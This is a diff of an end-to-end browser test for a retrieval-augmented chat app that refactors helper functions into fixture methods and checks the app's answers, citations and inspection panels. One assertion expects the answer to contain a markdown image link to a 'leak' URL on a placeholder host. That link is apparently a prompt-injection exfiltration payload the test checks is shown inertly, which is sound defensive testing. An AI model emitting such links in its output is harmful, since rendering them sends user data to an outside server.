@@ -5,7 +5,6 @@ from __future__ import annotations
 import re
 from http.client import HTTPConnection
 from pathlib import Path
-from typing import Any
 from urllib.parse import urlsplit
 
 import pymupdf
@@ -53,25 +52,6 @@ def pdf(tmp_path: Path) -> Path:
     return path
 
 
-def ask(browsing: Browsing, question: str, answers: int) -> None:
-    """Asks and waits for the panels of the answer with this number."""
-    box = browsing.page.get_by_test_id("stChatInputTextArea")
-    box.fill(question)
-    box.press("Enter")
-    answer = browsing.page.get_by_test_id("stChatMessage").nth(2 * answers - 1)  # question and answer, in turn
-    answer.get_by_test_id("stButtonGroup").first.wait_for(timeout=60_000)
-    browsing.settled()
-
-
-def open_panel(browsing: Browsing, name: str) -> Any:
-    """Opens a panel of the last answer and returns the answer."""
-    answer = browsing.page.get_by_test_id("stChatMessage").last
-    answer.get_by_test_id("stButtonGroup").first.get_by_text(name).click()
-    browsing.settled()
-    browsing.page.wait_for_timeout(500)
-    return answer
-
-
 def test_upload_rebuild_ask_and_inspect(app: str, browsing: Browsing, pdf: Path) -> None:
     page = browsing.page
     response = page.goto(app)
@@ -90,39 +70,39 @@ def test_upload_rebuild_ask_and_inspect(app: str, browsing: Browsing, pdf: Path)
     assert page.get_by_text("Tell me ").count() >= 1
     browsing.shot("2-examples")
 
-    ask(browsing, "In which year was the lighthouse of Karnholm built?", answers=1)
+    browsing.ask("In which year was the lighthouse of Karnholm built?", 1)
     answer = page.get_by_test_id("stChatMessage").last
     assert "Correct" in answer.inner_text()
     assert "1847" in answer.inner_text()
     assert re.search(r"\[1\] karnholm 卡恩霍尔姆.pdf p\. \d", answer.inner_text())
-    answer = open_panel(browsing, "Documents")
+    answer = browsing.panel("Documents")
     assert answer.get_by_test_id("stVegaLiteChart").is_visible()
     assert answer.locator(".crag-documents .crag-bar").first.is_visible()
     assert answer.locator(".crag-documents tr").count() > 1
     browsing.shot("3-documents")
-    answer = open_panel(browsing, "Refined context")
+    answer = browsing.panel("Refined context")
     assert "kept" in answer.inner_text()
     assert "Given to the generator" in answer.inner_text()
     assert answer.get_by_test_id("stCode").inner_text().startswith("[1] karnholm 卡恩霍尔姆.pdf, page")
     browsing.shot("4-refined-context")
-    assert "The web is off" in open_panel(browsing, "Web off").inner_text()
-    assert open_panel(browsing, "Timing").locator(".crag-waterfall li").first.is_visible()
+    assert "The web is off" in browsing.panel("Web off").inner_text()
+    assert browsing.panel("Timing").locator(".crag-waterfall li").first.is_visible()
     browsing.shot("5-timing")
 
-    ask(browsing, "灯塔的塔有多高？", answers=2)
+    browsing.ask("灯塔的塔有多高？", 2)
     assert "四十二米" in page.get_by_test_id("stChatMessage").last.inner_text()
 
-    ask(browsing, "How much does the ticket for the museum cost?", answers=3)
+    browsing.ask("How much does the ticket for the museum cost?", 3)
     shown = page.get_by_test_id("stChatMessage").last.inner_text()
     assert "![x](http://198.51.100.7/leak?d=1)" in shown or "9 crowns :red[now]" in shown
-    open_panel(browsing, "Refined context")
-    open_panel(browsing, "Documents")
+    browsing.panel("Refined context")
+    browsing.panel("Documents")
 
-    ask(browsing, "Who won the chess championship of Brazil in 1998?", answers=4)
+    browsing.ask("Who won the chess championship of Brazil in 1998?", 4)
     answer = page.get_by_test_id("stChatMessage").last
     assert "Incorrect" in answer.inner_text()
     assert "does not cover" in answer.inner_text()
-    answer = open_panel(browsing, "Second look")
+    answer = browsing.panel("Second look")
     assert "Rewritten query" in answer.inner_text()
     assert len(re.findall(r"Incorrect", answer.inner_text())) >= 3
     browsing.shot("6-second-look")
